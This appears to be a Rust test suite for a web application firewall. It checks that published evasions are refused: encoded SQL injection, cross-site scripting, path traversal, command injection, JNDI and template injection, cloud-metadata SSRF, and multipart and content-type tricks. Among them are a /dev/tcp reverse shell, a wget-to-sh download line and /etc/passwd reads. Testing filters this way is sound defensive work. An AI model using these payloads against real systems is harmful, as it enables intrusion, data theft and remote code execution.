//! Published evasions against our own rules: each case is an attack in a form that a filter may read in another way than the
//! program behind it does. They come from the cheat sheets of OWASP, from PayloadsAllTheThings, from reports on filters
//! (JSON operators in SQL, overlong UTF-8, percent signs that IIS drops) and from studies of multipart readers.

use super::*;

/// What each family hides, in the query argument `q`, written as it is sent.
const QUERIES: &[(&str, &[&str])] = &[
    (
        "percent-encoding, once to thrice and mixed",
        &[
            "%27%20or%20%271%27%3d%271",
            "%2527%2520or%2520%25271%2527%253d%25271",
            "%252527%252520or%2525201=1",
            "%27%u0020or%u0020%27a%27=%27a",
            "%u0027%u0020or%u00201=1--",
            "%ff%27%20or%201=1--%20",
            "%3Cs%63ript%3Ealert(1)",
            "%26%2360;script%26%2362;alert(1)",
            "%26%23x3c;script%26%23x3e;alert(1)",
            "%26%230000060;script%26%23x0000003e;alert(1)",
            "%5Cu003cscript%5Cu003ealert(1)",
            "%253Csvg%2520onload%253Dalert(1)%253E",
            "%25253Cscript%25253E",
        ],
    ),
    (
        "overlong and full-width UTF-8",
        &[
            "%c0%a7%20or%201=1--",
            "%e0%80%a7%20or%201=1--",
            "%f0%80%80%bcscript%f0%80%80%bealert(1)",
            "%c0%bcscript%c0%bealert(1)",
            "%ef%bc%87%20or%201=1--",
            "%ef%bc%9cscript%ef%bc%9ealert(1)",
            "..%c0%af..%c0%afetc%c0%afpasswd",
            "..%e0%80%af..%e0%80%afetc/passwd",
            "..%c1%9c..%c1%9cboot.ini",
            "..%u2215..%u2215etc/passwd",
            "%e5%98%8a%e5%98%8dSet-Cookie:%20a=b",
        ],
    ),
    (
        "comments and white space in SQL",
        &[
            "1/**/union/**/select/**/1,2",
            "1/*!50000union*//*!50000select*/1,2",
            "1%20/*!12345union*/%20/*!12345select*/%201",
            "1%0aunion%0aselect%0a1",
            "1%0bunion%0bselect%0b1",
            "1%0cunion%0cselect%0c1",
            "1%a0union%a0select%a01",
            "1%09union%09all%09select%091",
            "1--%0aunion--%0aselect%201",
            "1%23%0aunion%23%0aselect%201",
            "1%23foo%0aunion%23bar%0aselect%201,2",
            "1%20union(select(1),2)",
            "(1)union(select(1),mid(hash,1,32)from(users))",
            "1%20uNiOn%20aLl%20sElEcT%201,2",
            "1%20union%20/*%2a*/%20select%201",
            "1e0union%20select%201,2",
            "0x1union%20select%201",
            "1.union%20select%201",
            "1;%73elect%20pg_sleep(5)",
        ],
    ),
    (
        "SQL without the usual words",
        &[
            "1%27||1=1%23",
            "1%27%26%261=1%23",
            "%27||(1)like(1)||%27",
            "1%27%20or%201%20rlike%201%23",
            "1%20or%20%271%27<>%272%27",
            "%27=0%2b%27",
            "%27or%27%27=%27",
            "%27%20or%20true--",
            "%27-%27",
            "%27%20or%20%27%7b%22b%22:2%7d%27::jsonb%20%3c@%20%27%7b%22a%22:1,%22b%22:2%7d%27::jsonb--",
            "1%20or%20json_extract(%27%7b%22a%22:1%7d%27,%27$.a%27)=1",
            "%27%20or%20json_length(%27%7b%7d%27)%3c=8896%20union%20distinctrow%20select%20@@version%23",
            "1%20and%20ascii(substring((select%20user()),1,1))=114",
            "1%20procedure%20analyse(extractvalue(rand(),concat(0x3a,version())),1)",
            "1;exec%20xp_cmdshell(%27dir%27)",
            "1;declare%20@s%20varchar(99);set%20@s=0x73656c656374;exec(@s)",
            "1%27%20waitfor%20delay%20%270:0:5%27--",
            "1%20and%20(select*from(select(sleep(5)))a)",
            "admin%27--",
            "admin%27/*",
            "se%lect%20name%20fr%om%20users",
        ],
    ),
    (
        "scripts in pages",
        &[
            "%3Cscript%20%3Ealert(1)%3C/script%20%3E",
            "%3CScRiPt%3Ealert(1)",
            "%3Cscript/x%3Ealert(1)",
            "%3Cscript%0d%0a%3Ealert(1)",
            "%3Cscript%00%3Ealert(1)",
            "%3Cscr%00ipt%3Ealert(1)",
            "%3C%3Cscript%3Ealert(1)//%3C%3C/script%3E",
            "%3Cscrip%t%3Ealert(1)%3C/scrip%t%3E",
            "%3Cimg%20src=x%20onerror=alert(1)%3E",
            "%3Cimg/src=x/onerror=alert(1)%3E",
            "%3Cimg%20src=x%20onerror%0b=alert(1)%3E",
            "%3Cimg%20%22%22%22%3E%3Cscript%3Ealert(1)%3C/script%3E%22%3E",
            "%3Csvg%0conload=alert(1)%3E",
            "%3Csvg%3E%3Canimate%20onbegin=alert(1)%20attributeName=x%3E",
            "%3Csvg/onload=%26%2397;lert(1)%3E",
            "%3Cbody%20onpageshow=alert(1)%3E",
            "%3Cdetails%20open%20ontoggle=alert(1)%3E",
            "%3Cvideo%3E%3Csource%20onerror=alert(1)%3E",
            "%3Cinput%20autofocus%20onfocus=alert(1)%3E",
            "%3Ciframe%20srcdoc=%22%26lt;script%26gt;alert(1)%22%3E",
            "%3Ca%20href=%22jav%26%23x09;ascript:alert(1)%22%3Ex%3C/a%3E",
            "%3Ca%20href=%22javascript%26colon;alert(1)%22%3Ex%3C/a%3E",
            "%3Cmath%3E%3Cmi%20xlink:href=%22data:x,%3Cscript%3Ealert(1)%22%3E",
            "%3Cobject%20data=%22data:text/html;base64,PHNjcmlwdD4=%22%3E",
            "%22%20onmouseover=%22alert(1)",
            "%27-alert(1)-%27",
            "%27;alert(String.fromCharCode(88))//",
            "%5C%22;alert(1);//",
            "%3Cscript%3E[]%5B%22constructor%22%5D%5B%22constructor%22%5D(%22alert(1)%22)()%3C/script%3E",
            "%3Cscript%3E%5Cu0061lert(1)%3C/script%3E",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "%3Cx%20onclick=alert%601%60%3E",
            "%3Cstyle%3E@im%5Cport%27//x/y.css%27%3C/style%3E",
            "%3Cembed%20src=javascript:alert(1)%3E",
            "%3Cform%3E%3Cbutton%20formaction=javascript:alert(1)%3Ex",
            "%3Cxss%20style=%22x:expression(alert(1))%22%3E",
        ],
    ),
    (
        "paths",
        &[
            "../../../etc/passwd",
            "..//..//..//etc//passwd",
            "....//....//etc/passwd",
            "..././..././etc/passwd",
            "..%5c..%5c..%5cwindows%5csystem32%5cdrivers%5cetc%5chosts",
            "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "%252e%252e%252f%252e%252e%252fetc%252fpasswd",
            "%2e%2e%5c%2e%2e%5cboot.ini",
            "..%00/..%00/etc/passwd",
            "../../etc/passwd%00.png",
            "/etc/./passwd",
            "/./././etc/passwd",
            "/etc//passwd",
            "/proc/self/environ",
            "file:///etc/passwd",
            "php://filter/read=string.rot13/resource=index.php",
            "expect://id",
            "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOw==",
        ],
    ),
    (
        "commands",
        &[
            ";cat%20/etc/passwd",
            "|cat%20/etc/passwd",
            "%0acat%20/etc/passwd",
            "%26%26id",
            "||id||",
            ";c%5cat%20/etc/passwd",
            ";c%27a%27t%20/etc/passwd",
            ";c%22a%22t%20/etc/passwd",
            ";/bin/c?t%20/etc/p?sswd",
            ";/???/??t%20/???/p??s??",
            ";cat$IFS/etc/passwd",
            ";cat$%7bIFS%7d/etc/passwd",
            ";%7bcat,/etc/passwd%7d",
            ";w$@hoami",
            ";who$(echo%20am)i",
            ";$(printf%20%27\\x69\\x64%27)",
            ";echo%20Y2F0IC9ldGMvcGFzc3dk|base64%20-d|sh",
            "`id`",
            "$(id)",
            "();%7b:;%7d;cat%20/etc/passwd",
            ";sh</dev/tcp/10.0.0.1/80",
            ";wget%20http://10.0.0.1/a%20-O-|sh",
            "|powershell%20-enc%20SQBFAFgA",
            "%26%20dir%20c:%5c",
            ";p^i^n^g%20-c%201%2010.0.0.1",
        ],
    ),
    (
        "look-ups and templates",
        &[
            "$%7bjndi:ldap://x/a%7d",
            "$%7b$%7blower:j%7dndi:ldap://x/a%7d",
            "$%7b$%7b::-j%7d$%7b::-n%7d$%7b::-d%7d$%7b::-i%7d:rmi://x/a%7d",
            "$%7b$%7benv:BARFOO:-j%7dndi$%7benv:BARFOO:-:%7dldap://x%7d",
            "$%7bjndi:$%7blower:l%7d$%7blower:d%7dap://x%7d",
            "%2524%257bjndi:ldap://x/a%257d",
            "%7b%7b7*7%7d%7d",
            "%7b%7bconfig.__class__.__init__.__globals__%7d%7d",
            "$%7b7*7%7d",
            "%23%7b7*7%7d",
            "<%25=7*7%25>",
            "%7b%25%20for%20x%20in%20().__class__.__base__.__subclasses__()%20%25%7d",
            "$%7bT(java.lang.Runtime).getRuntime().exec(%27id%27)%7d",
        ],
    ),
    (
        "other servers as targets",
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://2852039166/latest/meta-data/",
            "http://0xa9fea9fe/latest/meta-data/",
            "http://0xa9.0xfe.0xa9.0xfe/latest/meta-data/",
            "http://0251.0376.0251.0376/latest/meta-data/",
            "http://[::ffff:169.254.169.254]/latest/meta-data/",
            "http://169.254.169.254.nip.io/latest/meta-data/",
            "http://metadata.google.internal/computeMetadata/v1/",
            "gopher://127.0.0.1:6379/_FLUSHALL",
            "dict://127.0.0.1:11211/stat",
        ],
    ),
];

/// Attacks that are in the path, the names of arguments, or in more than one argument.
const TARGETS: &[&str] = &[
    "/static/..%2f..%2f..%2fetc%2fpasswd",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%5c..%5cweb.config",
    "/static/..;/manager/html",
    "/a/..;x=y/admin",
    "/.%67it/config",
    "/%2egit/config",
    "/index.php%00.png",
    "/x%0d%0aSet-Cookie:%20a=b",
    "/?%3Cscript%3Ealert(1)%3C/script%3E",
    "/?%27%20or%201%3d1--",
    "/?a[%24ne]=1",
    "/?__proto__[x]=1",
    "/?constructor[prototype][x]=1",
    // The values of one name, joined by the program behind.
    "/?q=1%20union/*&q=*/select%201,2",
    "/?q=%27%20or%20/*&q=*/1=1--",
    "/?q=%3Csvg/x=%22&q=%22onload=alert(1)%3E",
    "/?a=1&q=good&q=%3Cscript%3Ealert(1)",
    "/?q=good;q=%3Cscript%3Ealert(1)",
    "/?a=1%26q=%3Cscript%3Ealert(1)",
    // JSON within an argument.
    "/?q=%7b%22a%22:%22%5Cu0027%20or%20%5Cu00271%5Cu0027=%5Cu00271%22%7d",
    "/?q=%5b%22%5Cu003cscript%5Cu003ealert(1)%22%5d",
    "/?q=%7b%22a%22:%22%7b%5C%22b%5C%22:%5C%22%5C%5Cu0027%20or%201=1--%5C%22%7d%22%7d",
];

#[test]
fn published_evasions_of_queries_are_refused() {
    let ruleset = rules(Profile::Balanced);
    let mut passed = Vec::new();
    let queries = QUERIES.iter().flat_map(|(family, list)| list.iter().map(move |it| (*family, *it)));
    for (family, query) in queries {
        if !ids(&ruleset, &format!("/?q={query}"), None).contains(&1_000_900) {
            passed.push(format!("{family}: {query}"));
        }
        // In a form, JSON, and in a part, it is the same attack.
        let form = format!("a=1&q={query}");
        if !ids(&ruleset, "/", Some((FORM, &form))).contains(&1_000_900) {
            passed.push(format!("{family}, in a form: {query}"));
        }
    }
    for target in TARGETS {
        if !ids(&ruleset, target, None).contains(&1_000_900) {
            passed.push((*target).to_owned());
        }
    }
    assert!(passed.is_empty(), "{} pass:\n{}", passed.len(), passed.join("\n"));
}

const FORM: &str = "application/x-www-form-urlencoded";
const XSS: &str = "<script>alert(1)</script>";

/// What a target with a body gets: `refused` by a rule, or because the body can be read in two ways.
fn is_refused(ruleset: &Arc<Ruleset>, headers: &[(&str, &str)], body: &str) -> bool {
    let mut all: Vec<(&[u8], &[u8])> = vec![(b"host", b"shop.example"), (b"user-agent", b"Mozilla/5.0")];
    all.extend(headers.iter().map(|(name, value)| (name.as_bytes(), value.as_bytes())));
    let mut transaction = Transaction::new(ruleset.clone(), Limits::default(), Buffers::default());
    transaction.request_head(&RequestHead {
        method: b"POST",
        target: b"/",
        version: "HTTP/1.1",
        headers: &all,
        client: [203, 0, 113, 9].into(),
        unique_id: b"",
    });
    transaction.request_body(body.as_bytes());
    transaction.denied().is_some() || transaction.body_error().is_some()
}

#[test]
fn content_types_do_not_hide_bodies() {
    let ruleset = rules(Profile::Balanced);
    let json = r#"{"q":"\u003cscript\u003ealert(1)"}"#;
    let form = "q=%3Cscript%3Ealert(1)";
    for (kinds, body) in [
        (&[][..], json),
        (&[], form),
        (&["text/plain"], json),
        (&["text/plain;charset=UTF-8"], form),
        (&["image/png"], json),
        (&["application/octet-stream"], json),
        (&["text/json"], json),
        (&["application/graphql"], "{ user(name: \"<script>alert(1)</script>\") { id } }"),
        (&["application/json", "text/plain"], "{}"),
        (&["image/png", "application/json"], json),
        (&["application/json, image/png"], "{}"),
        (&["image/png, application/json"], json),
        (&["application/json application/x-www-form-urlencoded"], form),
        (&["application/x-www-form-urlencoded/"], form),
        (&["x"], form),
        (&["application/json; charset=utf-16"], "{}"),
        (&["application/json; charset=utf-8; charset=utf-7"], "{}"),
        (&["application/json; charset=\"ibm037\""], "{}"),
        (&["application/x-www-form-urlencoded; charset=ibm500"], "a=1"),
        (&["application/x-www-form-urlencoded; charset=cp037"], "a=1"),
        (&["application/x-www-form-urlencoded; charset=utf-32be"], "a=1"),
        (&["application/x-www-form-urlencoded; charset=iso-2022-jp"], "a=1"),
        (&["application/x-www-form-urlencoded; charset=hz-gb-2312"], "a=1"),
        (&["text/html; charset=UTF-7"], "a"),
        (&[FORM], "_charset_=utf-7&q=x"),
        (&["application/json"], "\u{feff}{\"q\":\"<script>alert(1)\"}"),
        (&["application/json"], "{\"q\":1,\"q\":\"<script>alert(1)\"}"),
        (&["application/json"], "{\"q\":1}{\"q\":\"<script>alert(1)\"}"),
        (&["application/json"], "{/*c*/\"q\":\"x\"}"),
        (&["application/json"], "{'q':'x'}"),
        (&["application/json"], "{\"q\":\"{\\\"r\\\":\\\"\\\\u0027 or 1=1--\\\"}\"}"),
        (&["application/json"], "{\"<script>alert(1)\":1}"),
        (&["application/json"], "{\"$where\":\"sleep(1)\"}"),
        (&["application/xml"], "<?xml version='1.0' encoding='utf-7'?><a>+ADw-</a>"),
        (&["application/xml"], "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
        (&["application/xml"], "<a><![CDATA[<script>alert(1)]]></a>"),
        (&["application/xml"], "<a>&#60;scr<!-- -->ipt&#x3e;alert(1)</a>"),
        (&["application/xml"], "<a b=\"&#39; or 1=1--\"/>"),
        (&["application/xml"], "<a><b></a></b>"),
        (&["text/xml"], "<a>1 union<![CDATA[ select 1]]></a>"),
    ] {
        let headers: Vec<(&str, &str)> = kinds.iter().map(|kind| ("content-type", *kind)).collect();
        assert!(is_refused(&ruleset, &headers, body), "{kinds:?} {body}");
    }
}

/// Tricks of multipart bodies: what a filter may take for the content of a file, or not see at all.
#[test]
fn multipart_tricks_are_refused() {
    let ruleset = rules(Profile::Balanced);
    let part = |disposition: &str, content: &str| {
        format!("--B\r\nContent-Disposition: {disposition}\r\n\r\n{content}\r\n--B--\r\n")
    };
    let plain = part("form-data; name=\"q\"", XSS);
    let inner = format!("--C\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n{XSS}\r\n--C--\r\n");
    for (kind, body) in [
        ("multipart/form-data; boundary=B", plain.clone()),
        ("multipart/form-data; boundary=\"B\"", plain.clone()),
        ("Multipart/Form-Data; BOUNDARY=B", plain.clone()),
        ("multipart/mixed; boundary=B", plain.clone()),
        ("multipart/form-data; boundary=A; boundary=B", plain.clone()),
        ("multipart/form-data; boundary=\"A\"; boundary=B", plain.clone()),
        ("multipart/form-data; boundary*0=\"B\"; boundary=A", plain.clone()),
        ("multipart/form-data; boundary=A, boundary=B", plain.clone()),
        ("multipart/form-data; boundary =B", plain.clone()),
        ("multipart/form-data; boundary=B\\", plain.clone()),
        ("multipart/form-data", plain.clone()),
        ("multipart/form-data; boundary=B", plain.replace("--B--\r\n", "")),
        ("multipart/form-data; boundary=B", plain.replace("--B--", "--B")),
        ("multipart/form-data; boundary=B", plain.replace("\r\n", "\n")),
        ("multipart/form-data; boundary=B", format!("x\r\n{plain}")),
        ("multipart/form-data; boundary=B", format!("{plain}{}", inner.replace("--C", "--B"))),
        ("multipart/form-data; boundary=B", part("form-data; name=\"q\"; filename=\"\"", XSS)),
        ("multipart/form-data; boundary=B", part("form-data; name=q", XSS)),
        ("multipart/form-data; boundary=B", part("form-data; name='q'", XSS)),
        ("multipart/form-data; boundary=B", part("form-data; name=\"q\"; name=\"r\"", "x")),
        ("multipart/form-data; boundary=B", part("form-data; name*=utf-8''q", "x")),
        ("multipart/form-data; boundary=B", part("form-data; name*0=q", "x")),
        (
            "multipart/form-data; boundary=B",
            part("form-data; name=f; filename=a.txt; filename=\"a.php\"", "x"),
        ),
        (
            "multipart/form-data; boundary=B",
            part("form-data; name=f; filename=\"a.php\"; filename=a.txt", "x"),
        ),
        (
            "multipart/form-data; boundary=B",
            part("form-data; name=f; filename=\"a.txt\"; filename*=UTF-8''a.php", "x"),
        ),
        ("multipart/form-data; boundary=B", part("form-data; name=f; filename*=UTF-8''a%2Ephp", "x")),
        (
            "multipart/form-data; boundary=B",
            part("form-data; name=f; filename*0=\"a.p\"; filename*1=\"hp\"", "x"),
        ),
        ("multipart/form-data; boundary=B", part("form-data; name=f; filename=a.php", "x")),
        ("multipart/form-data; boundary=B", part("form-data; name=f; FILENAME=\"a.PHP\"", "x")),
        ("multipart/form-data; boundary=B", part("form-data; name=f; filename=\"a.php.\"", "x")),
        ("multipart/form-data; boundary=B", part("form-data; name=f; filename=\"a.php;.jpg\"", "x")),
        ("multipart/form-data; boundary=B", part("form-data; name=f; filename=\"a.php%00.jpg\"", "x")),
        ("multipart/form-data; boundary=B", part("form-data; name=f; filename=\"../../a.txt\"", "x")),
        ("multipart/form-data; boundary=B", part("form-data; name=f; filename=\"a.txt", "x")),
        ("multipart/form-data; boundary=B", part("form-data;\r\n name=\"q\"", "x")),
        (
            "multipart/form-data; boundary=B",
            part("form-data; name=\"q\"\r\nContent-Disposition: form-data; name=\"r\"; filename=\"x\"", XSS),
        ),
        (
            "multipart/form-data; boundary=B",
            part("form-data; name=\"q\"\r\nContent-Transfer-Encoding: base64", "PHNjcmlwdD4="),
        ),
        (
            "multipart/form-data; boundary=B",
            part("form-data; name=\"q\"\r\nContent-Type: text/plain; charset=utf-7", "x"),
        ),
        (
            "multipart/form-data; boundary=B",
            part("form-data; name=\"q\"\r\nContent-Type: multipart/mixed; boundary=C", &inner),
        ),
        (
            "multipart/form-data; boundary=B",
            part(
                "form-data; name=f; filename=\"a.bin\"",
                &format!("x\n--B\nContent-Disposition: form-data; name=\"q\"\n\n{XSS}"),
            ),
        ),
        ("multipart/form-data; boundary=B", part("form-data; name=\"_charset_\"", "ibm037")),
        ("multipart/form-data; boundary=B", plain.replace("Content-Disposition:", "Content-Disposition :")),
        ("multipart/form-data; boundary=B", plain.replace("Content-Disposition:", "X-Content-Disposition:")),
        ("multipart/form-data; boundary=B", plain.replace("Content-Disposition:", "content-disposition:")),
        (
            "multipart/form-data; boundary=B",
            plain.replace("Content-Disposition: form-data; name=\"q\"\r\n", ""),
        ),
        ("multipart/form-data; boundary=B", part("form-data; name=\"<script>alert(1)\"", "x")),
    ] {
        assert!(is_refused(&ruleset, &[("content-type", kind)], &body), "{kind}\n{body}");
    }
}

/// The same shapes without an attack go through, so that the tests above say something.
#[test]
fn ordinary_bodies_pass() {
    let ruleset = rules(Profile::Balanced);
    let part = "--B\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\nhello\r\n--B\r\n\
                Content-Disposition: form-data; name=\"f\"; filename=\"photo 1.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\
                \u{1}\u{2}<script>\r\n--B\r\nContent-Disposition: form-data; name=\"g\"; filename=\"\"\r\n\
                Content-Type: application/octet-stream\r\n\r\n\r\n--B--\r\n";
    for (kind, body) in [
        ("multipart/form-data; boundary=B", part),
        ("multipart/form-data; boundary=\"B\"; charset=utf-8", part),
        (
            "multipart/form-data; boundary=B",
            "--B\r\nContent-Disposition: form-data; name=f; filename*=UTF-8''na%C3%AFve.txt\r\n\r\nx\r\n--B--",
        ),
        ("text/plain", "Meet at 5 & bring the cat (or dog)."),
        ("text/plain; charset=gbk", "hello"),
        ("application/octet-stream", "\u{0}\u{1}binary <b>"),
        ("application/vnd.example.v2+json; charset=utf-8; profile=\"x\"", "{\"a\":[1,2]}"),
        (
            "application/json",
            "{\"data\":\"{\\\"name\\\":\\\"O'Brien\\\",\\\"note\\\":\\\"fine - really\\\"}\"}",
        ),
        ("application/graphql", "query Q($id: ID!) { user(id: $id) { name friends(first: 10) { name } } }"),
        (FORM, "tag=red&tag=blue&tag=dark+green&sort=name,-created"),
        (
            "application/xml; charset=utf-8",
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><a b=\"1\">text &amp; more</a>",
        ),
        ("application/x-protobuf", "\u{a}\u{5}hello"),
    ] {
        assert!(!is_refused(&ruleset, &[("content-type", kind)], body), "{kind}\n{body}");
    }
    assert!(!is_refused(&ruleset, &[], ""));
}
